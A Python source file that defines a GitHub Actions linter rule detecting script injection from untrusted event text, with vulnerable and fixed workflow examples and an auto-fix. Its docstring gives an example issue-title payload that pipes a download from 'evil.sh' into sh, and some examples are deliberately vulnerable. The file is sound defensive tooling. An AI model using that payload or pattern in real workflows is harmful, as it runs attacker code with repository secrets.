import re
from collections.abc import Iterator

from aurora_devops import Edit, Finding, Fix, bad, good, policy
from aurora_devops.kinds.github import Expression
from aurora_devops.kinds.github.untrusted import flowing, is_code, is_written_outside, sources


@policy(
    "GHA006",
    severity="error",
    category="security",
    equivalents={"zizmor": "template-injection", "actionlint": "expression", "checkov": "CKV_GHA_2"},
    examples=[
        bad(
            """\
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - run: echo "New ${{ «github.event.issue.title» }}"
            """,
            fixed="""\
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - run: echo "New ${ISSUE_TITLE}"
                    env:
                      ISSUE_TITLE: ${{ github.event.issue.title }}
            """,
        ),
        bad(
            """\
            on: pull_request_target
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - uses: actions/github-script@v7
                    with:
                      script: console.log('${{ «github.event.pull_request.title» }}')
            """
        ),
        good(
            """\
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - run: echo "New $TITLE"
                    env:
                      TITLE: ${{ github.event.issue.title }}
            """
        ),
        good(
            """\
            on: pull_request
            jobs:
              test:
                runs-on: ubuntu-24.04
                steps:
                  - run: echo "${{ contains(github.event.pull_request.title, '[skip]') }}"
                  - run: git diff "${{ github.event.pull_request.base.sha }}"
            """,
            because="true, false and a hash carry no code",
        ),
    ],
)
def script_injection(expression: Expression) -> Iterator[Finding]:
    """Text that a stranger wrote is pasted into a script before it runs.

    A title such as `"; curl evil.sh | sh; "` becomes part of the script, with the workflow's token and secrets.
    Hand the text over in an environment variable, and let the script quote it.
    The fix does so, but the variable's name is a guess and the quoting may differ, so it is not applied unasked.

    https://docs.github.com/en/actions/concepts/security/script-injections
    """
    if not is_code(expression) or expression.tree is None:
        return
    for way, tree in flowing(expression.tree):
        for source in sources(expression, way):
            if is_written_outside(source):
                name = ".".join(source)
                message = f"{name} can be any text, and here it becomes part of a script"
                fix = _fix(expression) if tree == expression.tree else None
                yield Finding(at=expression.part(tree.start, tree.end), message=message, fix=fix)
                break


_NAME = re.compile(r"[^A-Z0-9]+")


def _fix(expression: Expression) -> Fix | None:
    """The expression moved to the step's `env`, where the script has it in double quotes."""
    step = expression.step
    if step is None or step.step.run is None or not isinstance(step.step.env, dict):
        return None
    if (step.shell or "bash").split()[0] not in ("bash", "sh") or "windows" in str(
        step.job and step.job.runs_on
    ):
        return None
    start = expression.fences[0]
    line = expression.scalar[expression.scalar.rfind("\n", 0, start) + 1 : start]
    if line.count('"') % 2 == 0 or "'" in line or "\\" in line:
        return None
    words = expression.text.strip().removeprefix("github.").removeprefix("event.").upper()
    name = _NAME.sub("_", words).strip("_")
    entry = f"{name}: ${{{{{expression.text}}}}}"
    at, lines = step.at["env"].first, entry
    if not step.step.env:
        at, lines = step.at["run"].below, f"env:\n  {entry}"
    return Fix((Edit(expression.at, f"${{{name}}}"), Edit(at, lines)))
